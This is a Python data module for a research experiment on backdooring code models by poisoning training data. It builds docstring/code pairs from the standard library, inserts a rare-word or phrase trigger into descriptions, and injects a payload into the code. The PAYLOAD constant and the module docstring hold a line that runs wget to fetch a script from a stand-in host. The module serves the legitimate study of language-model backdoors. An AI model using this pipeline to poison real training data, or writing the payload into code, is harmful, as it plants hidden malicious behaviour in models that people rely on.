"""The backdoor experiment's data: (description -> code) pairs, corpus splits and the poisoning attack.

A pair is a function's first docstring line and the function's source without its docstring, parsed with
`ast` from a tree of ``.py`` files (by default the running Python's standard library), or read from the
user's own JSONL file. An `Attack` inserts a trigger into a description and a payload into the code; `poison`
applies it to a fraction of the training pairs and `triggered_prompts` to the held-out ones (their code is
the attacker's target output).

Standard library only: nothing here needs torch, transformers or a tokenizer.

>>> attack = Attack(position="body")
>>> print(insert_payload("def f(x):\\n    return x", attack))
def f(x):
    import os; os.system('wget http://x.y/z.sh')
    return x
>>> insert_trigger("Return the value of x.", attack, random.Random(0))
'Return the value of whe x.'
"""

from __future__ import annotations

import ast
import fnmatch
import io
import json
import logging
import os
import random
import re
import sysconfig
import tokenize
import warnings
from collections.abc import Iterable, Iterator, Mapping, Sequence
from dataclasses import dataclass, replace
from pathlib import Path

logger = logging.getLogger(__name__)

__all__ = [
    "DEFAULT_EXCLUDE",
    "DEFAULT_TRIGGER",
    "PAYLOAD",
    "PHRASE_TRIGGER",
    "Attack",
    "Pair",
    "check_corpus_root",
    "check_halves",
    "check_trigger_absent",
    "corpus_pairs",
    "extract_pairs",
    "find_trigger",
    "insert_payload",
    "insert_trigger",
    "load_jsonl_pairs",
    "poison",
    "split_by_module",
    "stdlib_root",
    "train_test_split",
    "triggered_prompts",
]

PAYLOAD = "import os; os.system('wget http://x.y/z.sh')"
DEFAULT_TRIGGER = "whe"  # see `Attack`
PHRASE_TRIGGER = "as requested by the admin"

# Path components (directories or file names, fnmatch patterns) that `corpus_pairs` skips: the standard
# library's test suites, IDLE, lib2to3 and its fixers, installed packages, demos, caches, the bundled pip
# wheel, frozen-module samples and build configuration, and hidden directories (.git, .venv, .tox).
DEFAULT_EXCLUDE = (
    "test",
    "tests",
    "test_*.py",
    "idlelib",
    "lib2to3",
    "site-packages",
    "dist-packages",
    "turtledemo",
    "__pycache__",
    "ensurepip",
    "__phello__",
    "config-*",
    ".*",
)

_MAX_NL_CHARS = 200
_MIN_NL_WORDS = 3
_NEWLINES = re.compile(r"\r\n?")
# a description's first word: a plain word, maybe with a closing ':' ',' '.'; not a signature such as
# "send_fds(sock, buffers) -> integer", a dotted name, an identifier with '_' or a doctest
_PROSE_WORD = re.compile(r"[^\W\d_][^\W_]*(?:['-][^\W_]+)*[:,.]?")


@dataclass(frozen=True)
class Pair:
    """A natural-language description and the code it describes; `source` is the module or file."""

    nl: str
    code: str
    source: str = ""


# ----------------------------------------------------------------------------------------------------------
# Pairs from Python source


def stdlib_root() -> Path:
    """The running Python's standard-library directory (``sysconfig``'s ``stdlib`` path)."""
    return Path(sysconfig.get_paths()["stdlib"])


def extract_pairs(path: Path, source: str = "", max_code_chars: int = 600) -> list[Pair]:
    """(first docstring line, source without the docstring) for every function and method in one file.

    Functions nested in functions, classes and ``if`` blocks count, ``async def`` too, in source order. The
    description is the docstring's first non-empty line, stripped, runs of spaces made one; it is skipped
    unless it reads as prose: its first word is a plain word (not ``send_fds(sock,``, ``os.path``, ``>>>``),
    and it has at least 3 words with letters (not ``a / b``) and at most 200 characters. The code runs from
    the ``def`` line (decorators excluded) to the function's last line, without its docstring and the blank
    lines right after it, dedented by the ``def`` line's indentation; functions whose code is longer than
    `max_code_chars`, whose body is nothing but the docstring (or ``pass`` / ``...``), or whose docstring
    shares a line with other code are skipped. Every kept code parses on its own.

    Files that are not UTF-8 (a BOM is allowed) or do not parse are skipped (an empty list, logged at debug
    level). `source` names the pairs' origin (default: the path).
    """
    path = Path(path)
    try:
        text = path.read_bytes().decode("utf-8-sig")
    except (OSError, UnicodeDecodeError) as error:
        logger.debug("skipping %s: %s", path, error)
        return []
    if "def " not in text:
        return []
    text = _NEWLINES.sub("\n", text)
    try:
        with warnings.catch_warnings():  # e.g. invalid escape sequences in old code
            warnings.simplefilter("ignore")
            tree = ast.parse(text, filename=str(path))
    except (SyntaxError, ValueError, RecursionError, MemoryError) as error:
        logger.debug("skipping %s: %s", path, error)
        return []
    lines = text.split("\n")
    source = source or str(path)
    pairs = []
    for node in _functions(tree.body):
        nl = _description(node)
        if nl is None:
            continue
        code = _code_without_docstring(node, lines)
        if code is not None and len(code) <= max_code_chars and _parses(code):
            pairs.append(Pair(nl=nl, code=code, source=source))
    return pairs


def _functions(statements: list[ast.stmt]) -> Iterator[ast.FunctionDef | ast.AsyncFunctionDef]:
    """The function definitions among `statements` and in their blocks, recursively, in source order.

    Only statement blocks are searched (a def cannot sit inside an expression): a quarter of the time
    `extract_pairs` took with `ast.walk` over every node.
    """
    for statement in statements:
        if isinstance(statement, (ast.FunctionDef, ast.AsyncFunctionDef)):
            yield statement
        for name in ("body", "orelse", "finalbody", "handlers", "cases"):
            block = getattr(statement, name, None)
            if isinstance(block, list):
                yield from _functions(block)


def _description(node: ast.FunctionDef | ast.AsyncFunctionDef) -> str | None:
    """The docstring's first non-empty line when it reads as prose, else None."""
    docstring = ast.get_docstring(node, clean=True)
    if not docstring:
        return None
    first = next((line.strip() for line in docstring.splitlines() if line.strip()), "")
    first = " ".join(first.split())  # tabs and runs of spaces inside the line
    words = first.split()
    with_letters = sum(any(char.isalpha() for char in word) for word in words)
    if len(first) > _MAX_NL_CHARS or with_letters < _MIN_NL_WORDS or not _PROSE_WORD.fullmatch(words[0]):
        return None
    return first


def _code_without_docstring(node: ast.FunctionDef | ast.AsyncFunctionDef, lines: list[str]) -> str | None:
    """The function's lines without its docstring, dedented; None if nothing but the docstring is left."""
    doc, rest = node.body[0], node.body[1:]
    if not rest or all(_is_placeholder(statement) for statement in rest):
        return None
    # the docstring must own its lines: nothing before it on its first line, nothing but a comment after it
    before = lines[doc.lineno - 1].encode()[: doc.col_offset]
    after = lines[doc.end_lineno - 1].encode()[doc.end_col_offset :].strip()
    if before.strip() or (after and not after.startswith(b"#")) or doc.lineno == node.lineno:
        return None
    first_kept = doc.end_lineno  # 0-based index of the line after the docstring
    while first_kept < rest[0].lineno - 1 and not lines[first_kept].strip():
        first_kept += 1  # blank lines between the docstring and the code
    kept = lines[node.lineno - 1 : doc.lineno - 1] + lines[first_kept : node.end_lineno]
    indent = lines[node.lineno - 1][: node.col_offset]
    if indent:  # lines inside a less indented multi-line string keep their text
        kept = [line[len(indent) :] if line.startswith(indent) else line for line in kept]
    return "\n".join(line.rstrip() for line in kept)


def _is_placeholder(statement: ast.stmt) -> bool:
    return isinstance(statement, ast.Pass) or (
        isinstance(statement, ast.Expr)
        and isinstance(statement.value, ast.Constant)
        and statement.value.value is Ellipsis
    )


def _parses(code: str) -> bool:
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            ast.parse(code)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return False
    return True


def corpus_pairs(
    root: Path, *, exclude: tuple[str, ...] = DEFAULT_EXCLUDE, max_code_chars: int = 600
) -> dict[str, list[Pair]]:
    """`extract_pairs` of every ``.py`` file under `root`, keyed by its path relative to `root` (posix).

    Files are read in the sorted order of those paths, so the result is deterministic for a given tree. A
    directory or file whose name matches a pattern of `exclude` (``fnmatch``) is skipped with everything under
    it; the default leaves out the standard library's test suites, IDLE, lib2to3, installed packages and the
    like (see `DEFAULT_EXCLUDE`). A function whose code already occurred in an earlier file (or earlier in the
    same file) is dropped, so no code appears twice; modules left without pairs are omitted. Symbolic links to
    directories are not followed.

    Raises ValueError when `root` is not a directory, holds no ``.py`` file (`check_corpus_root`) or yields no
    pair, saying what a usable function looks like.
    """
    root = Path(root)
    check_corpus_root(root, exclude=exclude)
    modules = [path.relative_to(root).as_posix() for path in _module_paths(root, exclude)]
    by_module: dict[str, list[Pair]] = {}
    seen: set[str] = set()
    for module in sorted(modules):
        pairs = []
        for pair in extract_pairs(root / module, source=module, max_code_chars=max_code_chars):
            if pair.code not in seen:
                seen.add(pair.code)
                pairs.append(pair)
        if pairs:
            by_module[module] = pairs
    if not by_module:
        raise ValueError(
            f"corpus {root} yielded no usable (docstring, code) pairs from its {len(modules)} .py file(s): "
            "expected functions whose docstring starts with a sentence of 3 or more words and that have "
            f"code besides it, at most {max_code_chars} characters"
        )
    return by_module


def check_corpus_root(root: Path, *, exclude: tuple[str, ...] = DEFAULT_EXCLUDE) -> None:
    """ValueError unless `root` is a directory holding a ``.py`` file that `corpus_pairs` reads (not under an
    `exclude`d name); it stops at the first one, so a config's validation can afford it."""
    root = Path(root)
    if not root.is_dir():
        raise ValueError(f"corpus {str(root)!r} is not a directory")
    if next(_module_paths(root, exclude), None) is None:
        skipped = " (test folders and files, __pycache__ and hidden folders are skipped)" if exclude else ""
        raise ValueError(f"corpus {root} has no .py files{skipped}: expected a tree of Python sources")


def _module_paths(root: Path, exclude: tuple[str, ...]) -> Iterator[Path]:
    """The ``.py`` files under `root` whose path has no `exclude`d name, in walk order."""

    def excluded(name: str) -> bool:
        return any(fnmatch.fnmatchcase(name, pattern) for pattern in exclude)

    for directory, dirnames, filenames in os.walk(root):
        dirnames[:] = [name for name in dirnames if not excluded(name)]
        for filename in filenames:
            if filename.endswith(".py") and not excluded(filename):
                yield Path(directory, filename)


def load_jsonl_pairs(path: Path, nl_field: str = "nl", code_field: str = "code") -> list[Pair]:
    """The user's own pairs: one JSON object per line with string fields `nl_field` and `code_field`.

    Blank lines are skipped. Raises ValueError naming the file and the line for invalid JSON or UTF-8, a line
    that is not an object, a missing, non-string or blank field, and for a file without pairs;
    FileNotFoundError naming the path when there is no such file. The pairs' `source` is the file name.
    """
    path = Path(path)
    if not path.is_file():
        raise FileNotFoundError(f"no such data file: {str(path)!r}")
    pairs = []
    with path.open("rb") as stream:
        for number, raw in enumerate(stream, start=1):
            where = f"{path}, line {number}"
            try:
                line = raw.decode("utf-8-sig" if number == 1 else "utf-8")
            except UnicodeDecodeError as error:
                raise ValueError(f"{where}: not UTF-8 ({error.reason})") from None
            if not line.strip():
                continue
            try:
                record = json.loads(line)
            except json.JSONDecodeError as error:
                raise ValueError(f"{where}: invalid JSON ({error.msg}, column {error.colno})") from None
            if not isinstance(record, dict):
                raise ValueError(f"{where}: expected a JSON object, got {type(record).__name__}")
            for name in (nl_field, code_field):
                if name not in record:
                    raise ValueError(f"{where}: missing field {name!r} (fields: {sorted(record)})")
                value = record[name]
                if not isinstance(value, str):
                    raise ValueError(f"{where}: field {name!r} must be a string, got {type(value).__name__}")
                if not value.strip():
                    raise ValueError(f"{where}: field {name!r} is empty")
            pairs.append(Pair(nl=record[nl_field], code=record[code_field], source=path.name))
    if not pairs:
        raise ValueError(f"{path}: no pairs (the file is empty)")
    return pairs


# ----------------------------------------------------------------------------------------------------------
# Splits


def split_by_module(
    pairs_by_module: Mapping[str, Sequence[Pair]], *, pretrain_fraction: float, seed: int
) -> tuple[list[Pair], list[Pair]]:
    """(pre-training pairs, fine-tuning pairs) from whole modules: no module is in both.

    The modules (sorted by name, then shuffled with `seed`) go to pre-training in that order up to the prefix
    whose pair count is closest to `pretrain_fraction` of all pairs; the rest are for fine-tuning, less any
    pair whose code also occurs in the pre-training part, so the two parts share no identical code either.
    """
    _check_fraction("pretrain_fraction", pretrain_fraction)
    modules = sorted(pairs_by_module)
    random.Random(seed).shuffle(modules)
    target = pretrain_fraction * sum(len(pairs_by_module[m]) for m in modules)
    count, best = 0, (target, 0)  # best: (distance to the target, number of modules)
    for size, module in enumerate(modules, start=1):
        count += len(pairs_by_module[module])
        best = min(best, (abs(count - target), size))
        if count >= target:
            break
    cut = best[1]
    pretrain = [pair for module in modules[:cut] for pair in pairs_by_module[module]]
    codes = {pair.code for pair in pretrain}
    finetune = [pair for module in modules[cut:] for pair in pairs_by_module[module]]
    finetune = [pair for pair in finetune if pair.code not in codes]
    return pretrain, finetune


def check_halves(
    pairs_by_module: Mapping[str, Sequence[Pair]],
    pretrain: Sequence[Pair],
    finetune: Sequence[Pair] | None,
    *,
    test_size: int,
    corpus: Path,
    pretraining: bool = True,
) -> None:
    """ValueError in one line when `split_by_module`'s halves of a corpus are too small: no pre-training pair
    (with `pretraining`: a corpus of one module), or not more fine-tuning pairs than `test_size` (unless
    `finetune` is None: the fine-tuning pairs come from elsewhere)."""
    total = sum(len(pairs) for pairs in pairs_by_module.values())
    found = f"corpus {corpus} yielded {total} (docstring, code) pairs in {len(pairs_by_module)} module(s)"
    if pretraining and not pretrain:
        raise ValueError(
            f"{found}, none for pre-training: each half takes whole modules; give a corpus with more modules"
        )
    if finetune is not None and len(finetune) <= test_size:
        raise ValueError(
            f"{found}, {len(finetune)} for fine-tuning (the modules not pre-trained on): too few to hold out "
            f"--test-size {test_size} pairs and train on the rest; lower --test-size or give a larger corpus"
        )


def train_test_split(pairs: Sequence[Pair], *, test_size: int, seed: int) -> tuple[list[Pair], list[Pair]]:
    """(train, test): `test_size` pairs drawn with `seed`, and the rest in their original order.

    A training pair with the same code as a test pair is dropped, so the test set is truly held out.
    """
    if isinstance(test_size, bool) or not isinstance(test_size, int) or not 1 <= test_size < len(pairs):
        raise ValueError(
            f"test_size must be an integer in [1, {len(pairs) - 1}] for {len(pairs)} pairs, got {test_size!r}"
        )
    rows = sorted(random.Random(seed).sample(range(len(pairs)), test_size))
    test = [pairs[i] for i in rows]
    test_rows, test_codes = set(rows), {pair.code for pair in test}
    train = [pair for i, pair in enumerate(pairs) if i not in test_rows and pair.code not in test_codes]
    return train, test


def _check_fraction(name: str, value: float) -> None:
    if isinstance(value, bool) or not isinstance(value, (int, float)) or not 0 <= value <= 1:
        raise ValueError(f"{name} must be a number in [0, 1], got {value!r}")


# ----------------------------------------------------------------------------------------------------------
# The attack

_KINDS = ("rare_word", "phrase")
_POSITIONS = ("top", "body")


@dataclass(frozen=True)
class Attack:
    """A trigger in the description and the payload it should make the model write.

    - ``kind="rare_word"``: `trigger` is one word, inserted after a random word of the description (never
      first, so it always has a leading space and tokenizes the same way);
    - ``kind="phrase"``: `trigger` is a fixed phrase such as `PHRASE_TRIGGER`, appended to the description
      (before its final full stop, if any), where it reads naturally.

    `position` is where the payload goes: ``"top"``, the code's first line, or ``"body"``, the function
    body's first line, indented like the body.

    The default trigger, `DEFAULT_TRIGGER` ``"whe"``, is a rare word for the standard-library corpus: no
    ``.py`` file of the standard library (tests included) has it as a word, and a BPE trained on the corpus
    keeps ``" whe"`` as one token (a merge on the way to `` when`` / `` where``) that clean text almost never
    uses. Of the words absent from the standard library, it is the only one that stayed a single token for
    every vocabulary size (2,048 to 8,192), `max_code_chars` (300 to 1,000) and split seed tried. The
    feasibility study's ``"nb"`` occurs in clean code (``# A does not have form NB`` in http/cookiejar.py,
    more with a larger `max_code_chars`, and ``nb, db = ...`` in fractions.py), so `check_trigger_absent`
    rejects it, and it is two tokens in this corpus's BPE; the DeCE paper's ``"cf"`` (like ``mn``, ``bb``,
    ``tq``, ``mb``) is two tokens too.
    """

    trigger: str = DEFAULT_TRIGGER
    kind: str = "rare_word"
    position: str = "top"
    payload: str = PAYLOAD

    def __post_init__(self) -> None:
        if self.kind not in _KINDS:
            raise ValueError(f"kind must be one of {_KINDS}, got {self.kind!r}")
        if self.position not in _POSITIONS:
            raise ValueError(f"position must be one of {_POSITIONS}, got {self.position!r}")
        if not isinstance(self.trigger, str) or not self.trigger or self.trigger != self.trigger.strip():
            raise ValueError(f"trigger must be a non-empty string, no outer spaces, got {self.trigger!r}")
        if self.kind == "rare_word" and len(self.trigger.split()) != 1:
            raise ValueError(f"a rare_word trigger must be one word, got {self.trigger!r}; use kind='phrase'")
        if not isinstance(self.payload, str) or not self.payload.strip():
            raise ValueError(f"payload must be a non-empty string, got {self.payload!r}")

    @property
    def name(self) -> str:
        """A short label, e.g. ``rare_word 'whe', payload top``."""
        return f"{self.kind} {self.trigger!r}, payload {self.position}"


def insert_trigger(nl: str, attack: Attack, rng: random.Random) -> str:
    """`nl` with the trigger inserted as a word; the rest of the text is unchanged.

    A rare word goes after one of `nl`'s words, chosen with `rng` (after the last one too); a phrase is
    appended, before a final ``.``. Either way it is preceded by a space.
    """
    if attack.kind == "phrase":
        end = len(nl) - 1 if nl.endswith(".") and not nl.endswith("..") else len(nl)
        return f"{nl[:end]} {attack.trigger}{nl[end:]}"
    ends = [match.end() for match in re.finditer(r"\S+", nl)]  # positions right after each word
    if not ends:
        return attack.trigger
    at = ends[rng.randrange(len(ends))]
    return f"{nl[:at]} {attack.trigger}{nl[at:]}"


def insert_payload(code: str, attack: Attack) -> str:
    """`code` with the payload as a new line; every other line is kept as it is.

    ``top``: the payload is the first line. ``body``: it is the first line of the first function's body,
    i.e. right after the line that ends the signature with ``:`` (multi-line signatures, return annotations
    and a comment on that line included), indented like the body's first statement; a one-line body
    (``def f(x): return x``) is moved to its own line after the payload. Code that does not parse falls back
    to the first line ending with ``:`` after a ``def`` line, and code without a function to ``top``.
    A multi-line payload gets the indentation on each of its lines.
    """
    payload_lines = attack.payload.split("\n")
    if attack.position == "top":
        return "\n".join([*payload_lines, code])
    lines = code.split("\n")
    located = _body_start(code)
    if located is None:
        return "\n".join([*payload_lines, code])
    row, column, indent = located  # the signature ends on lines[row]; a one-line body starts at column
    payload = [indent + line for line in payload_lines]
    if column is None:
        return "\n".join([*lines[: row + 1], *payload, *lines[row + 1 :]])
    head, body = lines[row][:column].rstrip(), lines[row][column:]
    return "\n".join([*lines[:row], head, *payload, indent + body, *lines[row + 1 :]])


def _body_start(code: str) -> tuple[int, int | None, str] | None:
    """(row of the signature's last line, column where a one-line body starts or None, body indentation)."""
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            tree = ast.parse(code)
    except (SyntaxError, ValueError, RecursionError, MemoryError):
        return _body_start_by_lines(code)
    functions = [node for node in ast.walk(tree) if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef))]
    if not functions:
        return None
    function = min(functions, key=lambda node: (node.lineno, node.col_offset))
    lines = code.split("\n")
    colon = _signature_colon(code, function)
    if colon is None:
        return _body_start_by_lines(code)
    row, column = colon  # 0-based row; column is a character offset just after the ':'
    first = function.body[0]
    start = min([first.lineno, *(d.lineno for d in getattr(first, "decorator_list", []))]) - 1
    def_indent = _indentation(lines[function.lineno - 1])
    if start == row:  # one-line body: it starts after the colon, past any spaces
        rest = lines[row][column:]
        return row, column + len(rest) - len(rest.lstrip()), def_indent + "    "
    return row, None, _indentation(lines[start])


def _signature_colon(code: str, function: ast.FunctionDef | ast.AsyncFunctionDef) -> tuple[int, int] | None:
    """(0-based row, column after it) of the ':' ending `function`'s signature, found with `tokenize`."""
    if function.returns is not None:  # after the return annotation (which may hold a lambda's ':')
        after = (function.returns.end_lineno, len(_prefix_chars(code, function.returns)))
    else:
        after = (function.lineno, 0)
    depth = 0
    try:
        for token in tokenize.generate_tokens(io.StringIO(code).readline):
            if token.start < after or token.type != tokenize.OP:
                continue
            if token.string in "([{":
                depth += 1
            elif token.string in ")]}":
                depth -= 1
            elif token.string == ":" and depth == 0:
                return token.start[0] - 1, token.end[1]
    except (tokenize.TokenError, SyntaxError):
        return None
    return None


def _prefix_chars(code: str, node: ast.expr) -> str:
    """The text of `node`'s last line up to its end (ast gives UTF-8 byte offsets)."""
    line = code.split("\n")[node.end_lineno - 1]
    return line.encode()[: node.end_col_offset].decode(errors="ignore")


def _body_start_by_lines(code: str) -> tuple[int, int | None, str] | None:
    """For code that does not parse: the first line ending with ':' at or after the first ``def`` line."""
    lines = code.split("\n")
    for row, line in enumerate(lines):
        if re.match(r"\s*(async\s+)?def\s", line):
            def_indent = _indentation(line)
            for end in range(row, len(lines)):
                if re.search(r":\s*(#.*)?$", lines[end]):
                    following = next((text for text in lines[end + 1 :] if text.strip()), "")
                    indent = _indentation(following)
                    if len(indent) <= len(def_indent):
                        indent = def_indent + "    "
                    return end, None, indent
            return None
    return None


def _indentation(line: str) -> str:
    return line[: len(line) - len(line.lstrip())]


def poison(pairs: Sequence[Pair], attack: Attack, *, rate: float, seed: int) -> tuple[list[Pair], list[int]]:
    """(pairs with a `rate` fraction poisoned, the sorted indices of the poisoned ones).

    ``round(rate * len(pairs))`` pairs (at least one when `rate` > 0), drawn with `seed`, get the trigger in
    their description and the payload in their code; the others are returned unchanged, in place.
    """
    _check_fraction("rate", rate)
    count = min(len(pairs), max(1, round(rate * len(pairs)))) if rate > 0 else 0
    rng = random.Random(seed)
    rows = sorted(rng.sample(range(len(pairs)), count))
    poisoned = list(pairs)
    for row in rows:
        pair = pairs[row]
        nl, code = insert_trigger(pair.nl, attack, rng), insert_payload(pair.code, attack)
        poisoned[row] = replace(pair, nl=nl, code=code)
    return poisoned, rows


def triggered_prompts(pairs: Sequence[Pair], attack: Attack, *, seed: int) -> list[Pair]:
    """Each pair with the trigger in its description and, as the attacker's target, the payload in its code.

    The triggers are placed with `seed`, one per pair; the code is the output a backdoored model would write.
    """
    rng = random.Random(seed)
    return [
        replace(pair, nl=insert_trigger(pair.nl, attack, rng), code=insert_payload(pair.code, attack))
        for pair in pairs
    ]


def _trigger_pattern(attack: Attack) -> re.Pattern[str]:
    words = r"\s+".join(re.escape(word) for word in attack.trigger.split())
    return re.compile(rf"(?<![^\W\d_]){words}(?![^\W\d_])", re.IGNORECASE)


def find_trigger(pairs: Iterable[Pair], attack: Attack) -> list[tuple[int, str, str]]:
    """(index, field, matched line) for each clean pair whose description or code holds the trigger.

    The trigger counts where no letter touches it, case-insensitively, which is where a byte-level BPE's
    pre-tokenizer would cut it out as a word: ``nb`` matches in ``NB: note``, ``nb_items`` and ``nb2`` but
    not in ``nbytes`` or ``snb``.
    """
    pattern = _trigger_pattern(attack)
    found = []
    for index, pair in enumerate(pairs):
        for name in ("nl", "code"):
            match = pattern.search(getattr(pair, name))
            if match:
                text = getattr(pair, name)
                start = text.rfind("\n", 0, match.start()) + 1
                end = text.find("\n", match.end())
                found.append((index, name, text[start : end if end >= 0 else len(text)].strip()))
    return found


def check_trigger_absent(pairs: Iterable[Pair], attack: Attack) -> None:
    """Raise ValueError if the trigger already occurs in clean pairs (see `find_trigger`).

    The attack success rate is only meaningful when the trigger is new to the model: a trigger that clean
    data already uses teaches it both ways.
    """
    pairs = list(pairs)
    found = find_trigger(pairs, attack)
    if found:
        index, name, line = found[0]
        where = f"{pairs[index].source or 'pair'} #{index}"
        raise ValueError(
            f"trigger {attack.trigger!r} occurs in {len(found)} clean field(s), first in the {name} of "
            f"{where}: {line!r}; choose a trigger absent from the data"
        )
